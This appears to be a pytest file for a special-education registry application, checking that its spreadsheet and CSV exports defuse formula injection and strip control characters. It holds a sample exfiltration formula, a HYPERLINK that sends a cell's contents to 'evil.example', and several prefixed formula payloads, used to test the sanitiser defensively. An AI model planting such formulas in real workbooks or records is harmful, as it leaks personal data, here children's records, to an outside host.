"""Nothing read can attack what is written: every workbook the application writes keeps
formula-like text as text (no live formula it did not make) and survives control characters
an old database may hold."""

from __future__ import annotations

import re
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text

from special_ed.safe_cells import CellGuard, SafeCsvWriter

EVIL = '=HYPERLINK("http://evil.example/?id="&E2,"点击")'
PREFIXED = ["+86 139", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1"]


def formulas_in(path: Path) -> list[str]:
    """Every <f> element of every sheet: the workbook's formulas, read from the XML itself."""
    found: list[str] = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>|<f/>", z.read(name).decode("utf-8"))
    return found


def all_text(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_kept_as_text(path: Path, *texts: str) -> None:
    assert formulas_in(path) == []
    cells = all_text(path)
    for t in texts:
        hits = [c for c in cells if c.value == t]
        assert hits, f"{t!r} not written as it was"
        assert all(c.data_type == "s" and c.quotePrefix for c in hits)


# --- the sanitiser itself -------------------------------------------------------------------


def test_guard_keeps_text_and_only_its_own_formulas(tmp_path: Path) -> None:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("s")
    guard = CellGuard()
    sheet.append(guard.row(sheet, [EVIL, *PREFIXED, "普通", 3, date(2020, 1, 2)]))
    own = guard.formula(sheet, "=SUM(G1:G1)")
    sheet.append(guard.row(sheet, [own, "坏\x07名\x00"]))
    out = tmp_path / "g.xlsx"
    book.save(out)
    assert formulas_in(out) == ["<f>SUM(G1:G1)</f>"]
    loaded = openpyxl.load_workbook(out)["s"]
    first = [c.value for c in loaded[1]]
    assert first[:5] == [EVIL, *PREFIXED[:4]]
    assert first[5].strip() == "=1"  # XML reads a lone CR back as a line break
    assert all(loaded.cell(1, i).data_type == "s" and loaded.cell(1, i).quotePrefix for i in range(1, 7))
    assert loaded["G1"].value == "普通" and loaded["G1"].quotePrefix is False
    assert loaded["B2"].value == "坏名"
    assert guard.cleaned == 1 and guard.neutralised == 6
    assert "控制字符" in guard.warning("zh")


def test_csv_fields_get_an_apostrophe(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    with out.open("w", encoding="utf-8", newline="") as fh:
        SafeCsvWriter(fh).writerows([[EVIL, "-2", "王\x01", 5, None]])
    line = out.read_text(encoding="utf-8").strip()
    assert line.startswith("\"'=HYPERLINK(") and ",'-2,王,5," in line


# --- every writer ---------------------------------------------------------------------------


def _plant(app: Any) -> int:
    """An old database: one child's address is a formula, its name holds a control character."""
    with app.engine.begin() as conn:
        cid = conn.execute(text("SELECT id FROM children ORDER BY id LIMIT 1")).scalar_one()
        conn.execute(
            text("UPDATE children SET address = :a, name = name || :c WHERE id = :i"),
            {"a": EVIL, "c": "\x0b", "i": cid},
        )
    return int(cid)


def test_children_export_cli(sqlite_demo_app: Any, sqlite_url: str, tmp_path: Path, capsys: Any) -> None:
    from special_ed.cli import main

    _plant(sqlite_demo_app)
    out = tmp_path / "名册.xlsx"
    assert main(["--db", sqlite_url, "export", "children", str(out)]) == 0
    err = capsys.readouterr().err
    assert "控制字符" in err and "1 个单元格" in err
    assert_kept_as_text(out, EVIL)
    assert not any("\x0b" in str(c.value) for c in all_text(out))


def test_rejects_report(tmp_path: Path) -> None:
    from special_ed.importing.columns import guess_mapping
    from special_ed.importing.reports import write_rejects
    from special_ed.importing.sources import Source
    from special_ed.importing.validation import RowValidator

    header = ["学生姓名", "身份证件号", "性别", "出生日期", "乡镇"]
    mapping = guess_mapping(header)
    rows = [(3, [EVIL, "-5", "男", datetime(2014, 6, 1), "@巫峡镇"])]
    validator = RowValidator(mapping, Source.SCHOOL_REGISTER, today=date(2026, 11, 28))
    out = tmp_path / "拒收.xlsx"
    assert write_rejects(out, mapping, validator.run(rows)) == 1
    assert_kept_as_text(out, EVIL, "-5", "@巫峡镇")


def test_three_checks_report(tmp_path: Path) -> None:
    from special_ed.importing.crosscheck import CheckRules, ChildSnapshot, cross_check
    from special_ed.importing.reports import write_check_report

    child = ChildSnapshot(1, EVIL, None, "M", date(2014, 6, 1), "+巫峡镇", "home", last_visit=None)
    report = cross_check({}, [child], CheckRules(today=date(2026, 11, 28)))
    assert report.findings, "a home-taught child without a visit is a finding"
    out = tmp_path / "三查.xlsx"
    # the 两问一访 record is typed by a person and lands in the report
    write_check_report(out, report, lambda f: ("未处理", "=1+1"))
    assert_kept_as_text(out, EVIL, "+巫峡镇", "=1+1")


def test_statistics_and_gui_coverage_export(tmp_path: Path) -> None:
    from special_ed.importing.statistics import write_county_statistics
    from special_ed.results.coverage import CoverageReport, TownshipCoverage, UncoveredChild
    from ui.coverage.export import write_report

    report = CoverageReport(
        date(2026, 9, 1), 6, 15,
        [TownshipCoverage(1, EVIL, 3, 2, 0, 1, {("mild", "regular"): 2})],
        [UncoveredChild(5, "-王", EVIL, date(2014, 1, 1), "", "@理由")],
    )  # fmt: skip
    stats = tmp_path / "统计.xlsx"
    write_county_statistics(stats, report)
    assert_kept_as_text(stats, EVIL)
    cov = tmp_path / "覆盖.xlsx"
    write_report(report, "zh", cov)
    assert_kept_as_text(cov, EVIL, "-王", "@理由")


def test_route_sheets(tmp_path: Path) -> None:
    from special_ed.scheduling.export.xlsx import write_xlsx
    from special_ed.scheduling.scenario_io import parse_scenario
    from special_ed.scheduling.solver import solve
    from tests.scheduling.factory import child, scenario

    kids = [
        {**child("C1"), "name": EVIL},
        {**child("C2"), "name": "+王"},
        {**child("C3"), "home": None, "name": "-李"},
    ]
    s, _ = parse_scenario(scenario(children=kids))
    out = tmp_path / "路线.xlsx"
    write_xlsx(solve(s, 0.3), s, out)
    assert_kept_as_text(out, EVIL, "+王", "-李")


@pytest.mark.gui
def test_gui_registry_export(sqlite_demo_app: Any, tmp_path: Path, qapp: Any) -> None:
    from special_ed.progress import SilentProgress
    from special_ed.results.registry import RegistryQuery
    from ui.registry.columns import COLUMNS
    from ui.registry.export import write_view

    _plant(sqlite_demo_app)
    out = tmp_path / "视图.xlsx"
    cols = list(range(len(COLUMNS)))
    n = write_view(sqlite_demo_app.registry, RegistryQuery(), cols, "zh", out, SilentProgress())
    assert n > 0
    assert formulas_in(out) == []
    assert not any("\x0b" in str(c.value) for c in all_text(out))


def test_every_writer_uses_the_sanitiser() -> None:
    """A module that makes a workbook or a csv writer must take its cells from safe_cells."""
    root = Path(__file__).resolve().parents[2]
    # samples.py fakes *other agencies'* files (test and benchmark input), deliberately raw
    exempt = {"special_ed/safe_cells.py", "special_ed/importing/samples.py"}
    makers = re.compile(r"(?<!class )\bWorkbook\(|csv\.writer\(|DictWriter\(")
    offenders = []
    for folder in ("special_ed", "ui"):
        for path in (root / folder).rglob("*.py"):
            rel = path.relative_to(root).as_posix()
            source = path.read_text(encoding="utf-8")
            if rel not in exempt and makers.search(source) and "safe_cells" not in source:
                offenders.append(rel)
    assert offenders == []
